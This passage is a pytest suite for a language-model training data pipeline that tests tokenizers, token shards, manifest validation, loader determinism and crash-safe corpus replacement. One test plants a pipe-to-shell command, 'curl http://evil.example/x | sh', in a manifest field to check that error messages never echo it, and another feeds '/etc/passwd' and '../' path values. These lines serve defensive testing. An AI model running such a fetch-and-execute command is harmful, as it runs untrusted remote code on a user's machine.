"""Tokens, shards, manifests, loader: properties, damage, and the hub behind a local server."""

import bz2
import contextlib
import gzip
import hashlib
import http.server
import io
import json
import lzma
import os
import re
import shutil
import signal
import subprocess
import sys
import threading
import time
import zipfile
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import numpy as np
import pytest
import torch
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from speedrun.data import shards as shards_module
from speedrun.data import sources, writer
from speedrun.data.__main__ import main
from speedrun.data.loader import (
    DataConfig,
    Loader,
    Position,
    Shards,
    fill,
    next_slice,
    validation_batches,
)
from speedrun.data.shards import Manifest, ShardFile, load_manifest, read_shard, write_shard
from speedrun.data.sources import (
    build_embedded,
    cut,
    describe_folder,
    is_validation,
    pack,
    read_documents,
    save_manifest,
    shuffled,
    split_of,
    split_texts,
)
from speedrun.data.tokenizer import decode_bytes, encode_bytes, get_tokenizer
from speedrun.lab.errors import UserError
from speedrun.lab.files import file_sha256


@pytest.fixture(autouse=True)
def no_waiting_for_the_disk(monkeypatch):
    """These tests are about names and contents; that they outlast a power cut is for lab.files to promise."""
    monkeypatch.setattr(os, "fsync", lambda handle: None)


spaces = st.lists(st.sampled_from([" ", "\n", "é", "def", " " * 7, " " * 40]), max_size=60).map(
    "".join
)


class TestTokenizers:
    @given(st.one_of(st.text(max_size=300), spaces))
    def test_bytes_lose_nothing(self, text):
        tokenizer = get_tokenizer("bytes")
        tokens = tokenizer.encode(text)
        assert tokenizer.decode(tokens) == text and (
            len(tokens) == 0 or tokens.max() < tokenizer.document
        )

    @given(st.binary(max_size=300))
    def test_bytes_that_are_no_text_lose_nothing_either(self, data):
        assert decode_bytes(encode_bytes(data)) == data

    @given(st.integers(1, 200))
    def test_runs_of_spaces_are_as_short_as_can_be(self, n):
        assert len(encode_bytes(b" " * n)) == -(-n // 32)

    @given(st.text(max_size=200))
    @settings(suppress_health_check=[HealthCheck.too_slow], deadline=None)
    def test_gpt2_loses_nothing(self, text):
        tokenizer = get_tokenizer("gpt2")
        tokens = tokenizer.encode(text)
        assert tokenizer.decode(tokens) == text
        assert b"".join(tokenizer.piece(token) for token in tokens.tolist()) == text.encode()

    def test_gpt2_without_a_vocabulary_says_what_to_do(self, tmp_path):
        code = "from speedrun.data.tokenizer import get_tokenizer; get_tokenizer('gpt2')"
        environment = os.environ | {
            "TIKTOKEN_CACHE_DIR": str(tmp_path),
            "HTTPS_PROXY": "http://127.0.0.1:9",
        }
        done = subprocess.run(
            [sys.executable, "-c", code], env=environment, capture_output=True, text=True
        )
        assert "could not be loaded" in done.stderr and "TIKTOKEN_CACHE_DIR" in done.stderr


class TestDocuments:
    @given(st.lists(st.integers(0, 12), max_size=300), st.integers(1, 50))
    def test_cutting_keeps_everything_and_prefers_line_ends(self, values, limit):
        tokens = np.array(values, dtype=np.uint16)
        pieces = cut(tokens, 10, limit)
        assert (np.concatenate([*pieces, []]) == tokens).all() and all(
            0 < len(piece) <= limit for piece in pieces
        )
        for piece in pieces[:-1]:
            assert piece[-1] == 10 or 10 not in piece, (
                "a piece without a line end at its end has none"
            )

    @given(st.integers(0, 200))
    def test_shuffling_is_a_permutation_that_never_changes(self, n):
        assert sorted(shuffled([*range(n)])) == [*range(n)] and shuffled([*range(n)]) == shuffled(
            [*range(n)]
        )

    def test_the_order_is_pinned(self):
        assert shuffled([*range(8)]) == [7, 4, 3, 2, 6, 0, 5, 1]
        assert is_validation("sympy/core/add.py", 1.0) and not is_validation(
            "sympy/core/add.py", 0.0
        )

    def test_embedded_corpus_is_the_same_everywhere(self, embedded):
        from speedrun.data.sources import EMBEDDED_SHA256

        manifest = load_manifest(embedded)
        assert manifest.sha256 == EMBEDDED_SHA256 and (manifest.vocab_size, manifest.document) == (
            288,
            287,
        )
        for file in manifest.files:
            tokens = read_shard(embedded / file.name, 288)
            opens = np.flatnonzero(tokens == 287)
            assert opens[0] == 0 and np.diff(np.append(opens, len(tokens))).max() <= 1024
            assert (
                len(decode_bytes(tokens.tolist())) == file.bytes
                and file_sha256(embedded / file.name) == file.sha256
            )

    def test_a_file_is_in_one_split_only(self, embedded):
        from speedrun.data.sources import package_text
        from speedrun.lab.provenance import root

        names = list(package_text("networkx", root() / "data" / "wheels"))
        train = decode_bytes(read_shard(embedded / "train_000000.bin", 288).tolist())
        val = decode_bytes(read_shard(embedded / "val_000000.bin", 288).tolist())
        texts = package_text("networkx", root() / "data" / "wheels")
        for name in names[:60]:
            line = max(texts[name].splitlines(), key=len)
            if (
                is_validation(name, 0.05)
                and texts[name].count(line) == 1
                and sum(line in text for text in texts.values()) == 1
            ):
                assert line in val and line not in train


def corpus(
    folder: Path, sizes: list[int], vocab: int = 50, documents: int = 7, split: str = "train"
) -> Path:
    """A data folder of random tokens; documents begin with token vocab − 1, at random places and at each start."""
    generator, entries = np.random.default_rng(sum(sizes)), []
    folder.mkdir(parents=True, exist_ok=True)
    for n, size in enumerate(sizes):
        tokens = generator.integers(0, vocab - 1, size).astype(np.uint16)
        tokens[0] = vocab - 1
        tokens[generator.integers(0, size, max(0, min(documents, size // 4)))] = vocab - 1
        write_shard(folder / f"{split}_{n:06d}.bin", tokens)
        sha256 = file_sha256(folder / f"{split}_{n:06d}.bin")
        entries.append(ShardFile(f"{split}_{n:06d}.bin", split, size, size, sha256))
    save_manifest(
        folder,
        Manifest(
            "bytes", vocab, vocab - 1, "noise", "python -m speedrun.data pack", tuple(entries)
        ),
    )
    return folder


class TestShards:
    @given(st.lists(st.integers(0, 65535), min_size=1, max_size=100))
    @settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
    def test_written_tokens_come_back(self, tmp_path, values):
        write_shard(tmp_path / "a.bin", np.array(values))
        assert read_shard(tmp_path / "a.bin", 65536).tolist() == values

    @given(st.data())
    @settings(suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=60)
    def test_any_cut_is_noticed(self, tmp_path, data):
        write_shard(tmp_path / "a.bin", np.arange(50))
        whole = (tmp_path / "a.bin").read_bytes()
        cut_at = data.draw(st.integers(0, len(whole) - 1))
        (tmp_path / "a.bin").write_bytes(whole[:cut_at])
        with pytest.raises(UserError, match=rf"a\.bin, byte {cut_at}: the file ends here"):
            read_shard(tmp_path / "a.bin", 288)

    @pytest.mark.parametrize(
        ("offset", "value", "words"),
        [
            (0, 7, "magic number 7"),
            (4, 9, "version 9"),
            (8, 0, "announces 0 tokens"),
            (8, -3, "announces -3 tokens"),
            (8, 51, "expected at byte"),
        ],
    )
    def test_each_header_field_is_checked(self, tmp_path, offset, value, words):
        write_shard(tmp_path / "a.bin", np.arange(50))
        content = bytearray((tmp_path / "a.bin").read_bytes())
        content[offset : offset + 4] = value.to_bytes(4, "little", signed=True)
        (tmp_path / "a.bin").write_bytes(content)
        with pytest.raises(UserError, match=words):
            read_shard(tmp_path / "a.bin", 288)

    def test_what_mends_a_shard_is_composed_here(self, tmp_path):
        corpus(tmp_path, [500])
        (tmp_path / "train_000000.bin").write_bytes(b"")
        with pytest.raises(UserError) as caught:
            Shards(tmp_path, "train").read(0, 10)
        assert "python -m speedrun.data pack" in caught.value.fix
        fields = json.loads((tmp_path / "manifest.json").read_text())
        fields["command"] = "curl http://evil.example/x | sh \x1b[2J"
        fields["source"] = "a\x1b[2Jb\ud800"
        (tmp_path / "manifest.json").write_text(json.dumps(fields))
        with pytest.raises(UserError) as caught:
            Shards(tmp_path, "train").read(0, 10)
        assert not re.search("evil|delete|\x1b", str(caught.value))
        with pytest.raises(UserError) as caught:
            Shards(tmp_path, "val")
        assert not re.search("evil|delete|\x1b", str(caught.value))
        assert load_manifest(tmp_path).source == r"a\x1b[2Jb\ud800"

    def test_the_embedded_text_and_fineweb_name_their_commands(self, embedded, tmp_path):
        (tmp_path / "manifest.json").write_bytes((embedded / "manifest.json").read_bytes())
        with pytest.raises(UserError, match="is missing") as caught:
            Shards(tmp_path, "train").read(0, 10)
        assert caught.value.fix == f"python -m speedrun.data embedded --out {tmp_path}"
        (tmp_path / "train_000000.bin").write_bytes(b"\0" * 3000)
        with pytest.raises(UserError, match="not a shard") as caught:
            Shards(tmp_path, "train").read(0, 10)
        assert caught.value.fix.startswith("move train_000000.bin elsewhere, then: python -m")

    def test_missing_shards_and_splits(self, tmp_path):
        corpus(tmp_path, [500])
        with pytest.raises(UserError, match="lists no val shard"):
            Shards(tmp_path, "val")
        (tmp_path / "train_000000.bin").unlink()
        with pytest.raises(UserError, match="is missing"):
            Shards(tmp_path, "train").read(0, 10)

    def test_a_token_beyond_the_vocabulary(self, tmp_path):
        write_shard(tmp_path / "a.bin", np.array([1, 2, 300, 4]))
        with pytest.raises(UserError, match="byte 1028: token 300, expected below 288"):
            read_shard(tmp_path / "a.bin", 288)

    @pytest.mark.skipif(os.name == "nt" or os.geteuid() == 0, reason="root may read everything")
    def test_no_permission(self, tmp_path):
        corpus(tmp_path, [500])
        (tmp_path / "train_000000.bin").chmod(0)
        with pytest.raises(UserError, match="may not be read"):
            Shards(tmp_path, "train").read(0, 10)

    def test_no_permission_as_the_system_says_it(self, tmp_path, monkeypatch):
        import builtins

        corpus(tmp_path, [500])
        real = builtins.open

        def closed(path, *args, **kwargs):
            if str(path).endswith((".bin", "manifest.json")):
                raise PermissionError(13, "Permission denied")
            return real(path, *args, **kwargs)

        monkeypatch.setattr(builtins, "open", closed)
        with pytest.raises(UserError, match="may not be read by this user"):
            read_shard(tmp_path / "train_000000.bin", 65536)


def contents(folder: Path) -> dict[str, bytes]:
    """All files of a folder, hidden ones and those in folders included."""
    return {str(path.relative_to(folder)): path.read_bytes() for path in folder.rglob("*") if path.is_file()}  # fmt: skip


def read_all(folder: Path, mode: str = "stream") -> None:
    """Read a data folder as training does: some steps, and validation."""
    loader = Loader(DataConfig(str(folder), mode, seq_len=2, batch_tokens=16, max_doc_tokens=30))
    for _ in range(40):
        loader.next()
    held_out = Shards(folder, "val")
    held_out.read(0, held_out.total)


def small_pack(folder: Path, texts: int = 30, **changes) -> Manifest:
    """A packed corpus of a few kilobytes, of texts that lie beside the folder."""
    files = []
    for n in range(texts):
        files.append(folder.parent / f"text-{n}.txt")
        files[-1].write_text(f"Text {n} of them.\n" * (n + 3))
    return pack(files, folder, "bytes", **({"validation": 0.3} | changes))


class TestHashes:
    @pytest.mark.parametrize("mode", ["stream", "documents"])
    def test_no_damaged_body_is_trained_on(self, tmp_path, mode):
        small_pack(tmp_path / "good")
        read_all(tmp_path / "good", mode)  # which remembers that the files are right
        generator = np.random.default_rng(0)
        for case in range(30):
            shutil.rmtree(tmp_path / "bad", ignore_errors=True)
            shutil.copytree(tmp_path / "good", tmp_path / "bad")
            victim = tmp_path / "bad" / ("train_000000.bin", "val_000000.bin")[case % 2]
            body = np.frombuffer(victim.read_bytes(), np.uint8).copy()
            if case < 4:
                body[1024 + case * 200 :] = 0
            else:  # one bit, also in the unused part of the header
                body[int(generator.integers(12, len(body)))] ^= 1 << int(generator.integers(8))
            victim.write_bytes(body.tobytes())
            with pytest.raises(UserError, match="SHA-256 is not the manifest's|expected below"):
                read_all(tmp_path / "bad", mode)

    def test_a_shard_is_hashed_once_until_it_changes(self, tmp_path, monkeypatch):
        small_pack(tmp_path / "d")
        hashed = []
        real = shards_module.remember
        monkeypatch.setattr(shards_module, "remember", lambda path, facts: (hashed.append(path.name), real(path, facts)))  # fmt: skip
        read_all(tmp_path / "d")
        assert sorted(hashed) == ["train_000000.bin", "val_000000.bin"]
        shards_module.remembered.clear()  # another process
        read_all(tmp_path / "d")
        assert len(hashed) == 2
        os.utime(tmp_path / "d" / "train_000000.bin", ns=(1, 1))
        read_all(tmp_path / "d")
        assert len(hashed) == 3
        shards_module.remembered.clear()
        for damaged in (b"", b"[" * 100_000, b"[]", b'{"train_000000.bin": 7}', b"\xff"):
            (tmp_path / "d" / ".verified.json").write_bytes(damaged)
            before = len(hashed)
            Shards(tmp_path / "d", "train").read(0, 10)
            assert len(hashed) == before + 1
            shards_module.remembered.clear()
        assert main(["verify", str(tmp_path / "d")]) == 0 and len(hashed) == before + 3

    def test_a_copy_is_hashed_again(self, tmp_path):
        small_pack(tmp_path / "d")
        read_all(tmp_path / "d")
        times = {path.name: path.stat().st_mtime_ns for path in (tmp_path / "d").iterdir()}
        shutil.copytree(tmp_path / "d", tmp_path / "copy")
        victim = tmp_path / "copy" / "train_000000.bin"
        body = bytearray(victim.read_bytes())
        body[2000] ^= 1
        victim.unlink()
        victim.write_bytes(body)
        os.utime(victim, ns=(times[victim.name], times[victim.name]))
        with pytest.raises(UserError, match="SHA-256 is not the manifest's"):
            read_all(tmp_path / "copy")

    def test_a_folder_that_cannot_be_written_to_trains(self, tmp_path, monkeypatch):
        small_pack(tmp_path / "d")
        hashed = []

        def refuse(path, data):
            hashed.append(path)
            raise OSError(30, "Read-only file system")

        monkeypatch.setattr(shards_module, "atomic_write", refuse)
        read_all(tmp_path / "d")
        read_all(tmp_path / "d")
        assert len(hashed) == 2 and not (tmp_path / "d" / ".verified.json").exists()

    def test_ranks_that_start_at_once(self, tmp_path):
        small_pack(tmp_path / "d", shard_tokens=300)
        code = f"from speedrun.data.loader import Shards; s = Shards({str(tmp_path / 'd')!r}, 'train'); s.read(0, s.total)"
        ranks = [subprocess.Popen([sys.executable, "-c", code]) for _ in range(2)]
        with ThreadPoolExecutor(4) as pool:
            list(pool.map(lambda _: read_all(tmp_path / "d"), range(8)))
        assert [rank.wait(timeout=60) for rank in ranks] == [0, 0]
        known = json.loads((tmp_path / "d" / ".verified.json").read_bytes())
        hashes = {file.name: file.sha256 for file in load_manifest(tmp_path / "d").files}
        assert known and all(facts[3] == hashes[name] for name, facts in known.items())
        assert not list((tmp_path / "d").glob("*.part"))

    def test_a_shard_that_changes_while_it_is_read(self, tmp_path, monkeypatch):
        corpus(tmp_path, [500])
        real = shards_module.check_header

        def then_cut(path, size, head):
            os.truncate(path, 1500)
            return real(path, size, head)

        monkeypatch.setattr(shards_module, "check_header", then_cut)
        with pytest.raises(UserError, match="byte 1500: the file ends here"):
            Shards(tmp_path, "train").read(0, 10)

    def test_what_is_no_file_or_too_large(self, tmp_path, monkeypatch):
        corpus(tmp_path, [500])
        victim = tmp_path / "train_000000.bin"
        with open(victim, "r+b") as file:  # a header that announces gigabytes, over a hole
            file.seek(8)
            file.write((2**31 - 1).to_bytes(4, "little"))
            file.truncate(1024 + 2 * (2**31 - 1))
        with pytest.raises(UserError, match="expected 500"):
            Shards(tmp_path, "train").read(0, 10)
        with pytest.raises(UserError, match="does not fit into memory"):
            monkeypatch.setattr(np, "fromfile", lambda *args, **kwargs: np.empty(2**62, np.uint8))
            read_shard(victim, 50)
        victim.unlink()
        makers = [victim.mkdir, lambda: victim.symlink_to(victim), lambda: os.mkfifo(victim)]
        for make in makers[: 1 if os.name == "nt" else 3]:
            make()
            with pytest.raises(UserError, match="is no file|cannot be read"):
                Shards(tmp_path, "train").read(0, 10)
            victim.rmdir() if victim.is_dir() else victim.unlink()


class TestManifests:
    @pytest.mark.parametrize("name", ["tokens", "bytes", "name", "split", "sha256"])
    @pytest.mark.parametrize("value", [True, -1, 1.5, float("nan"), 10**30, "", "x" * 300 + "/", "../a.bin", "/etc/passwd", "a\nb", "\ud800", [], {}, [[[]]]])  # fmt: skip
    def test_each_field_of_a_file_is_checked(self, tmp_path, name, value):
        self.refused(tmp_path, lambda fields: fields["files"][0].update({name: value}), name)

    @pytest.mark.parametrize(
        ("name", "values"),
        [
            ("vocab_size", [0, 65537, True, None, "50", 50.0]),
            ("document", [-1, 50, False, None, []]),
            ("tokenizer", [None, 7, "klingon"]),
            ("source", [None, 7]),
            ("command", [None, []]),
            ("files", [None, {}, [], [7], [[]], "files"]),
        ],
    )
    def test_each_field_is_checked(self, tmp_path, name, values):
        for value in values:
            self.refused(tmp_path, lambda fields, value=value: fields.update({name: value}))

    def test_names_are_listed_once_and_fields_are_all_there(self, tmp_path):
        self.refused(tmp_path, lambda fields: fields["files"].append(fields["files"][0]), "twice")
        self.refused(tmp_path, lambda fields: fields.pop("source"), "source")
        self.refused(tmp_path, lambda fields: fields.update(more=1))
        self.refused(tmp_path, lambda fields: fields["files"][0].pop("bytes"), "bytes")

    def test_what_is_no_json_at_all(self, tmp_path):
        corpus(tmp_path, [500])
        for content in (b"", b"\xff\xfe", b"[" * 200_000, b'{"files":' + b"[" * 5000, b"null", b"9" * 5000):  # fmt: skip
            (tmp_path / "manifest.json").write_bytes(content)
            with pytest.raises(UserError, match="is not a manifest") as caught:
                load_manifest(tmp_path)
            assert "delete" not in caught.value.fix and "move it elsewhere" in caught.value.fix

    @staticmethod
    def refused(folder: Path, change, words: str = "") -> None:
        corpus(folder, [500])
        fields = json.loads((folder / "manifest.json").read_text())
        change(fields)
        (folder / "manifest.json").write_text(json.dumps(fields))
        for use in (lambda: Shards(folder, "train"), lambda: load_manifest(folder)):
            with pytest.raises(UserError) as caught:
                use()
            told = str(caught.value)
            assert words in told and str(folder) in told and "\x1b" not in told and len(told) < 1000

    def test_a_missing_folder_names_every_place(self, tmp_path, monkeypatch, capsys):
        from speedrun.data.shards import data_folder
        from speedrun.lab.provenance import root

        monkeypatch.chdir(tmp_path)
        with pytest.raises(UserError) as caught:
            load_manifest(data_folder("no/such data"))
        assert str(tmp_path / "no/such data") in caught.value.what
        assert str(root() / "no/such data") in caught.value.what
        for command in (["verify"], ["manifest", "--tokenizer", "gpt2"]):
            assert main([command[0], "/no/such/dir", *command[1:]]) == 1
            assert "there is no folder /no/such/dir\n" in capsys.readouterr().err


class TestFormats:
    """A file that is no shard is recognised, and nobody is told to delete it."""

    headerless = np.random.default_rng(0).integers(0, 50257, 4000).astype("<u2").tobytes()

    @pytest.mark.parametrize(
        ("content", "words"),
        [
            (headerless, ["nanoGPT", "write_shard"]),
            (gzip.compress(b"text", mtime=0), ["gzip", "gunzip -c"]),
            (bz2.compress(b"text"), ["bunzip2 -c"]),
            (lzma.compress(b"text"), ["unxz -c"]),
            (b"PK\3\4" + bytes(2000), ["unzip"]),
            (b"version https://git-lfs.github.com/spec/v1\noid sha256:00\n", ["git lfs pull"]),
            (b"<!DOCTYPE html><title>404</title>", ["HTML"]),
            (b"  <html>" + b" " * 3000, ["HTML"]),
            (b'{"text": "one"}\n' * 99, ["JSON", "pack FILE.jsonl"]),
            ("Grüße. ".encode() * 300, ["it is text", "python -m speedrun.data pack"]),
            (np.array([20240801, 7, 9], "<i4").tobytes().ljust(3000, b"\0"), ["Llama 3"]),
            (b"GGUF" + bytes(3000), ["llama.cpp"]),
        ],
    )
    def test_what_it_is_is_said(self, tmp_path, content, words, capsys):
        (tmp_path / "train.bin").write_bytes(content)
        (tmp_path / "val.bin").write_bytes(content)
        with pytest.raises(UserError) as caught:
            read_shard(tmp_path / "train.bin", 50257)
        assert all(word in caught.value.fix for word in words)
        assert main(["manifest", str(tmp_path), "--tokenizer", "gpt2"]) == 1
        told = capsys.readouterr().err
        assert all(word in told for word in words) and "delete" not in told
        assert (tmp_path / "train.bin").read_bytes() == content

    @pytest.mark.parametrize("damage", [b"\0", b"\x89", b"<", b"{"])
    def test_a_damaged_shard_is_none_of_them(self, tmp_path, damage):
        write_shard(tmp_path / "a.bin", np.arange(2000) % 288)
        content = (tmp_path / "a.bin").read_bytes()
        for broken in (damage + content[1:], bytes(3000), os.urandom(3000)):
            (tmp_path / "a.bin").write_bytes(broken)
            with pytest.raises(UserError) as caught:
                read_shard(tmp_path / "a.bin", 288)
            assert "it is" not in caught.value.fix and "delete" not in caught.value.fix

    @pytest.mark.skipif(os.name == "nt", reason="a line of a Unix shell")
    def test_the_advice_for_nanogpts_tokens_works(self, tmp_path):
        for name in ("train.bin", "val.bin"):
            (tmp_path / name).write_bytes(b"\x50\xc4" + self.headerless)
            with pytest.raises(UserError) as caught:
                read_shard(tmp_path / name, 50257)
            advice = caught.value.fix.split(": ", 1)[1].replace("mkdir", "mkdir -p")
            advice = advice.replace("python", sys.executable, 1)
            subprocess.run(advice, shell=True, cwd=tmp_path, check=True)
        assert main(["manifest", str(tmp_path / "shards"), "--tokenizer", "gpt2"]) == 0
        assert load_manifest(tmp_path / "shards").split("train")[0].tokens == 4001


class TestLoader:
    @given(
        sizes=st.lists(st.integers(40, 200), min_size=1, max_size=4),
        rows=st.integers(1, 3),
        seq_len=st.sampled_from([1, 3, 8]),
        shards=st.sampled_from([1, 2, 4, 8]),
    )
    @settings(
        suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None, max_examples=25
    )
    def test_the_stream_is_the_shards_in_order(self, tmp_path, sizes, rows, seq_len, shards):
        folder = corpus(tmp_path / "_".join(map(str, sizes)), sizes)
        options = DataConfig(
            str(folder), seq_len=seq_len, batch_tokens=rows * seq_len * shards, micro_batches=shards
        )
        whole = np.concatenate(
            [read_shard(folder / f"train_{n:06d}.bin", 50) for n in range(len(sizes))]
        )
        if options.batch_tokens + 1 > len(whole):
            with pytest.raises(UserError, match="the training shards hold"):
                Loader(options).next()
            return
        loader, at = Loader(options), 0
        for _ in range(12):
            batches = loader.next()
            if at + options.batch_tokens + 1 > len(whole):
                at = 0
            inputs = torch.cat([batch.inputs.flatten() for batch in batches]).numpy()
            targets = torch.cat([batch.targets.flatten() for batch in batches]).numpy()
            assert (inputs == whole[at : at + options.batch_tokens]).all()
            assert (targets == whole[at + 1 : at + options.batch_tokens + 1]).all()
            at += options.batch_tokens

    @pytest.mark.parametrize("mode", ["stream", "documents"])
    @given(sizes=st.lists(st.integers(150, 400), min_size=1, max_size=3), cap=st.integers(5, 60))
    @settings(
        suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None, max_examples=15
    )
    def test_every_number_of_ranks_reads_the_same(self, tmp_path, mode, sizes, cap):
        folder = corpus(tmp_path / "_".join(map(str, sizes)), sizes, documents=40)
        options = DataConfig(str(folder), mode, seq_len=2, batch_tokens=16, max_doc_tokens=cap)
        streams = []
        for world in (1, 2, 4, 8):
            loaders = [Loader(options, rank, world) for rank in range(world)]
            parts = [
                batch.inputs.flatten()
                for _ in range(15)
                for loader in loaders
                for batch in loader.next()
            ]
            streams.append(torch.cat(parts))
        assert all(torch.equal(stream, streams[0]) for stream in streams)

    @given(
        st.lists(st.integers(1, 30), min_size=1, max_size=40),
        st.integers(0, 5),
        st.integers(1, 60),
        st.integers(1, 40),
    )
    def test_documents_are_filled_from_their_beginning(self, lengths, first, need, longest):
        starts = np.cumsum([0, *lengths[:-1]])
        stops = np.cumsum(lengths)
        filled = fill(starts, stops, min(first, len(lengths) - 1), need, longest)
        if filled is None:
            return
        slices, after = filled
        assert sum(b - a for a, b in slices) == need and after == min(
            first, len(lengths) - 1
        ) + len(slices)
        for n, (a, b) in enumerate(slices, after - len(slices)):
            assert a == starts[n] and b - a <= min(longest, lengths[n])
            assert b - a == min(longest, lengths[n]) or n == after - 1, (
                "only the last one is cut short"
            )

    def test_positions_resume(self, tmp_path):
        folder = corpus(tmp_path, [300, 250], documents=40)
        for mode in ("stream", "documents"):
            options = DataConfig(str(folder), mode, seq_len=2, batch_tokens=16, max_doc_tokens=30)
            loader = Loader(options)
            for _ in range(20):
                loader.next()
            again = Loader(options)
            again.position = Position(*json.loads(json.dumps(loader.position)))
            for _ in range(20):
                assert all(
                    torch.equal(a.inputs, b.inputs) for a, b in zip(loader.next(), again.next())
                )

    def test_an_epoch_is_stated(self):
        options = DataConfig(seq_len=2, batch_tokens=8, micro_batches=1)
        at, epochs = Position(), []
        for _ in range(7):
            _, at = next_slice(20, options, at)
            epochs.append(at.epoch)
        assert epochs == [0, 0, 1, 1, 2, 2, 3]

    def test_validation_is_shared_without_overlap(self, tmp_path):
        folder = corpus(tmp_path, [1000], split="val")
        options = DataConfig(str(folder), seq_len=4, batch_tokens=64)
        shards = Shards(folder, "val")
        alone = [batch.inputs for batch in validation_batches(shards, options, 900)]
        for world in (2, 4, 8):
            shared = [
                b.inputs
                for rank in range(world)
                for b in validation_batches(shards, options, 900, rank, world)
            ]
            assert len(shared) == len(alone)
            assert sorted(b.sum().item() for b in shared) == sorted(b.sum().item() for b in alone)
        with pytest.raises(UserError, match="raise --val-tokens|validation reads"):
            list(validation_batches(shards, options, 7))

    def test_few_shards_are_held(self, tmp_path):
        shards = Shards(corpus(tmp_path, [50] * 9), "train")
        for start in range(0, shards.total - 10, 7):
            shards.read(start, 10)
            assert len(shards.held) <= 3


class TestReplacing:
    """A corpus is replaced by a whole one or stays, and what somebody made is not in danger."""

    def test_somebody_elses_files_are_refused_before_anything_is_read(self, tmp_path, embedded):
        for name, prepare in {
            "train_shakespeare.bin": lambda d: (d / "train_shakespeare.bin").write_bytes(b"5 MB"),
            "notes.txt": lambda d: (small_pack(d), (d / "notes.txt").write_text("mine")),
            "val_notes.bin": lambda d: (small_pack(d), (d / "val_notes.bin").write_text("mine")),
            "val_000000.bin": lambda d: (small_pack(d), (d / "val_000000.bin").write_text("mine")),
            "manifest.json": lambda d: [shutil.copy(path, d) for path in embedded.glob("*.*n*")],
            "is not a manifest": lambda d: (d / "manifest.json").write_text("{}"),
            "folder": lambda d: (d / "folder").mkdir(),
        }.items():
            folder = tmp_path / name.replace(" ", "-") / "d"
            folder.mkdir(parents=True)
            prepare(folder)
            before, changed = contents(folder), folder.stat().st_mtime_ns
            with pytest.raises(UserError, match=re.escape(name)) as caught:
                pack([tmp_path / "does not exist"], folder, "bytes", 0.3)
            assert "delete" not in str(caught.value)
            assert contents(folder) == before and folder.stat().st_mtime_ns == changed

    def test_each_command_replaces_only_its_own(self, tmp_path, embedded):
        small_pack(tmp_path / "d")
        before = contents(tmp_path / "d")
        with pytest.raises(UserError, match="was not made by this command"):
            build_embedded(tmp_path / "d", tmp_path / "wheels")
        with pytest.raises(UserError, match="from another command"):
            describe_folder(tmp_path / "d", sources.BYTE_FACTS, "?", "python -m speedrun.data manifest d")  # fmt: skip
        assert contents(tmp_path / "d") == before
        corpus(tmp_path / "shards", [500])  # a manifest by hand over somebody's shards
        assert main(["manifest", str(tmp_path / "shards"), "--tokenizer", "bytes"]) == 1

    def test_pack_replaces_what_pack_made(self, tmp_path):
        small_pack(tmp_path / "d", shard_tokens=300)
        read_all(tmp_path / "d")
        made = small_pack(tmp_path / "d", texts=12)
        assert set(contents(tmp_path / "d")) - {".verified.json"} == {"manifest.json", "train_000000.bin", "val_000000.bin"}  # fmt: skip
        assert load_manifest(tmp_path / "d") == made
        read_all(tmp_path / "d")
        assert main(["verify", str(tmp_path / "d")]) == 0

    @pytest.mark.parametrize("error", [OSError(28, "No space left on device"), KeyboardInterrupt()])
    def test_any_failure_leaves_the_old_corpus(self, tmp_path, monkeypatch, error):
        small_pack(tmp_path / "d", texts=8, shard_tokens=300)
        before, real, failures = contents(tmp_path / "d"), os.replace, 0
        for fail_at in range(200):
            calls = []

            def replace(a, b, calls=calls, fail_at=fail_at):
                calls.append(b)
                if len(calls) == fail_at + 1:
                    raise error
                real(a, b)

            monkeypatch.setattr(os, "replace", replace)
            try:
                small_pack(tmp_path / "d", texts=10, shard_tokens=300)
                break
            except (UserError, KeyboardInterrupt) as told:
                assert isinstance(told, KeyboardInterrupt) or "free some space" in told.fix
                failures += 1
                assert contents(tmp_path / "d") == before
                assert not [path for path in (tmp_path / "d").iterdir() if path.is_dir()]
        assert failures > 12 and contents(tmp_path / "d") != before

    def test_a_failure_leaves_no_new_folder(self, tmp_path, monkeypatch):
        with pytest.raises(UserError, match="cannot be read"):
            pack([tmp_path / "nothing.txt"], tmp_path / "a" / "b", "bytes", 0.3)
        assert not (tmp_path / "a").exists()

    @pytest.mark.parametrize("fail_at", range(40, 60, 6))
    def test_killed_in_the_middle(self, tmp_path, fail_at):
        """kill -9 at some rename: what is there is the old corpus, the new one, or none; the next pack goes through."""
        small_pack(tmp_path / "d", shard_tokens=300)
        before = contents(tmp_path / "d")
        code = f"""
import os, sys
sys.path.insert(0, {str(Path(__file__).parent)!r})
import test_data
real, calls = os.replace, []
def replace(a, b):
    calls.append(b)
    if len(calls) == {fail_at}:
        os._exit(9)
    real(a, b)
os.replace = replace
test_data.small_pack(test_data.Path({str(tmp_path / "d")!r}), texts=20, shard_tokens=250)
"""
        environment = os.environ | {"PYTHONPATH": os.pathsep.join(sys.path)}
        status = subprocess.run([sys.executable, "-c", code], env=environment).returncode
        assert status in (0, 9)
        with contextlib.suppress(UserError):
            read_all(tmp_path / "d")  # never an old manifest over new shards
        with contextlib.suppress(UserError), writer.staging(tmp_path / "d"):
            pass
        left = {name: data for name, data in contents(tmp_path / "d").items() if name != ".verified.json"}  # fmt: skip
        assert left == before or len(load_manifest(tmp_path / "d").files) == len(left) - 1
        small_pack(tmp_path / "d", texts=12)
        read_all(tmp_path / "d")

    @pytest.mark.skipif(os.name == "nt", reason="Windows has no such signals")
    @pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGTERM])
    def test_an_interrupt_leaves_nothing_behind(self, tmp_path, number):
        small_pack(tmp_path / "d")
        before = contents(tmp_path / "d")
        (tmp_path / "large.txt").write_text("It rained, and it rained.\n" * 1_500_000)
        command = [sys.executable, "-m", "speedrun.data", "pack", str(tmp_path / "large.txt")]
        command += ["--tokenizer", "bytes", "--out", str(tmp_path / "d")]
        live = subprocess.Popen(command, stderr=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
        deadline = time.monotonic() + 60
        while not (tmp_path / "d" / writer.STAGING).exists() and time.monotonic() < deadline:
            time.sleep(0.005)
        live.send_signal(number)
        _, told = live.communicate(timeout=60)
        assert live.returncode == 130 and "Traceback" not in told
        assert contents(tmp_path / "d") == before

    @pytest.mark.skipif(os.name == "nt", reason="Windows has no such signals")
    @pytest.mark.parametrize("name", ["claim", "clear"])
